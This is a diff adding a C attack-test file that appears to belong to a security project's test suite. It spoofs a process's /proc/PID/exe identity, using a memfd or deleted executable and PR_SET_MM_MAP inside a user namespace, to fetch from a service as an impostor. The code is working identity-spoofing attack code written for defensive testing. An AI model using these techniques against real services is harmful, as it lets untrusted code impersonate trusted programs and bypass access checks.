@@ -1,0 +1,137 @@
+// SPDX-License-Identifier: Apache-2.0
+/*
+ * A11, A15: what /proc/PID/exe says and what runs are made to differ. Runs in svid-attack as evil. The recipe of a15 is
+ * reference/kernel.md K4: own text in anonymous memory, then PR_SET_MM_MAP in an own user namespace.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/prctl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <unistd.h>
+
+#include "tests/attack/attack.h"
+
+#define RANGES_MAX 32
+
+extern char **environ;
+
+static void exec_fd(const struct options *o, int fd)
+{
+	char socket_word[300], wait_word[32];
+	char *argv[] = {(char *)o->trusted, "fetch", socket_word, wait_word, "who=thief", NULL};
+
+	snprintf(socket_word, sizeof(socket_word), "socket=%s", o->socket);
+	snprintf(wait_word, sizeof(wait_word), "wait=%d", o->wait_ms);
+	fexecve(fd, argv, environ);
+	die("fexecve");
+}
+
+/* A11: an executable that has no path, and one whose path is gone. how= is a folder of the attacker. */
+static int a11(const struct options *o)
+{
+	char path[256];
+	int fd;
+
+	if (is_variant(o, "memfd")) {
+		fd = memfd_create(o->trusted, MFD_CLOEXEC);
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+		copy_file("/proc/self/exe", path);
+		/* an executable open for writing cannot run */
+		fd = open(path, O_RDONLY | O_CLOEXEC);
+		close(fd - 1);
+	} else {
+		snprintf(path, sizeof(path), "%s/gone", o->how);
+		copy_file("/proc/self/exe", path);
+		fd = open(path, O_RDONLY | O_CLOEXEC);
+		unlink(path);
+	}
+	if (fd < 0)
+		die(path);
+	exec_fd(o, fd);
+	return 3;
+}
+
+struct range {
+	unsigned long start, end;
+	int prot;
+};
+
+/* Where our own executable file is mapped. */
+static int ranges_of(const char *exe, struct range *ret_ranges)
+{
+	FILE *f = fopen("/proc/self/maps", "re");
+	char line[512], r, w, x;
+	int n = 0;
+
+	if (!f)
+		die("/proc/self/maps");
+	while (fgets(line, sizeof(line), f) && n < RANGES_MAX) {
+		struct range *g = &ret_ranges[n];
+
+		line[strcspn(line, "\n")] = 0;
+		if (strlen(line) < strlen(exe) || strcmp(line + strlen(line) - strlen(exe), exe) != 0)
+			continue;
+		if (sscanf(line, "%lx-%lx %c%c%c", &g->start, &g->end, &r, &w, &x) != 5)
+			continue;
+		g->prot = (r == 'r' ? PROT_READ : 0) | (w == 'w' ? PROT_WRITE : 0) | (x == 'x' ? PROT_EXEC : 0);
+		n++;
+	}
+	fclose(f);
+	return n;
+}
+
+/* The same bytes at the same place, but of no file. */
+static void make_anonymous(const struct range *g)
+{
+	size_t len = g->end - g->start;
+	void *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	if (copy == MAP_FAILED)
+		die("mmap");
+	if (!(g->prot & PROT_READ) && mprotect((void *)g->start, len, g->prot | PROT_READ))
+		die("mprotect");
+	memcpy(copy, (void *)g->start, len);
+	if (mprotect(copy, len, g->prot))
+		die("mprotect");
+	if (mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)g->start) == MAP_FAILED)
+		die("mremap");
+}
+
+static int a15(const struct options *o)
+{
+	struct range ranges[RANGES_MAX];
+	struct prctl_mm_map map;
+	char exe[256];
+	struct answer a;
+	ssize_t len = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
+	int n;
+
+	exe[len > 0 ? len : 0] = 0;
+	enter_user_ns(0);
+	n = ranges_of(exe, ranges);
+	for (int i = 0; i < n; i++)
+		make_anonymous(&ranges[i]);
+	mm_map_now(&map);
+	map.exe_fd = open(o->trusted, O_RDONLY | O_CLOEXEC);
+	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0)) {
+		if (errno == EPERM)
+			skip("PR_SET_MM_MAP with an exe_fd is refused here");
+		die("PR_SET_MM_MAP");
+	}
+	len = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
+	exe[len > 0 ? len : 0] = 0;
+	say("exe: %s", strcmp(exe, o->trusted) == 0 ? "spoofed" : exe);
+	answer_init(&a);
+	client_ask(client_open(o->socket), &a, o->wait_ms);
+	answer_say("thief", &a);
+	return 0;
+}
+
+const struct command spoof_exe_commands[] = {
+	{"a11", "an executable without a path; variant=memfd|deleted", a11},
+	{"a15", "PR_SET_MM_MAP points the exe link at trusted", a15},
+	{NULL, NULL, NULL},
+};
